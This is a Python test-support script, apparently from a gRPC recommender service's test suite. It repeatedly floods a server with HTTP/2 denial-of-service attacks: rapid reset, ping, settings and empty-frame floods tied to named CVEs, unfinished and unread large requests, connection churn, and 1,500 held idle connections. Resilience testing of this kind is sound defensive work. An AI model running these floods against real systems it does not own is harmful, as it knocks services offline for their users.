"""A client that abuses a server in one way, until it is killed: `… tests.support.abuse KIND HOST:PORT`.

It connects again when the server closes its connection, and prints a line each time.
"""

from __future__ import annotations

import resource
import select
import socket
import sys
import time
from collections.abc import Callable
from contextlib import suppress

from protos.recommender.v1.recommender_pb2 import BatchRecommendRequest, RecommendRequest
from tests.support.http2 import (
    CANCEL,
    DATA,
    END_STREAM,
    INITIAL_WINDOW_SIZE,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    connection,
    frame,
    prefixed,
)

SERVICE = "/recommender.v1.RecommenderService"
USER = RecommendRequest(user_id=1).SerializeToString()
BAD_BATCH = BatchRecommendRequest(requests=[RecommendRequest(user_key="k" * 10)] * 100).SerializeToString()
LARGE_BATCH = BatchRecommendRequest(requests=[RecommendRequest(user_id=1, limit=100)] * 100).SerializeToString()
TOGETHER = 50  # frames that are sent at once
CONNECTIONS = 1500  # two abusers stay below the bound of the service


def reset_calls(address: str) -> None:
    """Calls that are taken back at once (CVE-2023-44487)."""
    with connection(address) as made:

        def call_and_reset() -> bytes:
            number, frames = made.frames_of_call(f"{SERVICE}/Recommend", USER)
            return frames + frame(RST_STREAM, 0, number, CANCEL.to_bytes(4))

        made.flood(lambda: b"".join(call_and_reset() for _ in range(TOGETHER)))


def ping(address: str) -> None:
    """Pings without pause (CVE-2019-9512)."""
    with connection(address) as made:
        made.flood(lambda: frame(PING, 0, 0, b"12345678") * TOGETHER)


def change_settings(address: str) -> None:
    """Settings without pause, each of which must be acknowledged (CVE-2019-9515)."""
    with connection(address) as made:
        made.flood(lambda: frame(SETTINGS, 0, 0, b"") * TOGETHER)


def send_empty_frames(address: str) -> None:
    """A request in frames without content (CVE-2019-9518)."""
    with connection(address) as made:
        number = made.start_call(f"{SERVICE}/Recommend")
        made.flood(lambda: frame(DATA, 0, number, b"") * TOGETHER)


def leave_unfinished(address: str) -> None:
    """Sixteen requests of almost a mebibyte that do not end."""
    with connection(address) as made:
        for _ in range(16):
            made.send(made.start_call(f"{SERVICE}/Recommend"), prefixed(bytes(1 << 20))[:1_000_000])
        made.read_until_closed()


def leave_unread(address: str) -> None:
    """Calls with large answers that are not read."""
    with connection(address, {INITIAL_WINDOW_SIZE: 0}) as made:
        for _ in range(16):
            made.call(f"{SERVICE}/BatchRecommend", LARGE_BATCH)
        made.read_until_closed()


def send_bad_batches(address: str) -> None:
    """Sixteen batches of bad requests at a time, without pause."""
    with connection(address, {INITIAL_WINDOW_SIZE: 1 << 24}) as made:
        for _ in range(16):
            made.call(f"{SERVICE}/BatchRecommend", BAD_BATCH)
        while True:
            kind, flags, payload = made.read()
            if kind == DATA and payload:
                made.socket.sendall(frame(WINDOW_UPDATE, 0, 0, len(payload).to_bytes(4)))
            elif flags & END_STREAM:
                made.call(f"{SERVICE}/BatchRecommend", BAD_BATCH)


def connect_and_leave(address: str) -> None:
    """Connections that are closed as soon as they are made."""
    host, _, port = address.rpartition(":")
    while True:
        socket.create_connection((host, int(port)), timeout=10).close()


def hold_connections(address: str) -> None:
    """Connections on which nothing is said."""
    host, _, port = address.rpartition(":")
    held: dict[int, socket.socket] = {}
    poll = select.poll()
    while True:
        while len(held) < CONNECTIONS:
            made = socket.create_connection((host, int(port)), timeout=10)
            held[made.fileno()] = made
            poll.register(made, select.POLLRDHUP)
        closed = poll.poll(1000)
        print(f"{len(closed)} of {len(held)} connections closed", flush=True)
        for descriptor, _ in closed:
            poll.unregister(descriptor)
            held.pop(descriptor).close()


KINDS: dict[str, Callable[[str], None]] = {
    abuse.__name__: abuse
    for abuse in (
        reset_calls,
        ping,
        change_settings,
        send_empty_frames,
        leave_unfinished,
        leave_unread,
        send_bad_batches,
        connect_and_leave,
        hold_connections,
    )
}


def main(kind: str, address: str) -> None:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    while True:
        with suppress(OSError):  # the server has closed the connection, or takes no more of them
            KINDS[kind](address)
        print("closed", flush=True)
        time.sleep(0.01)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
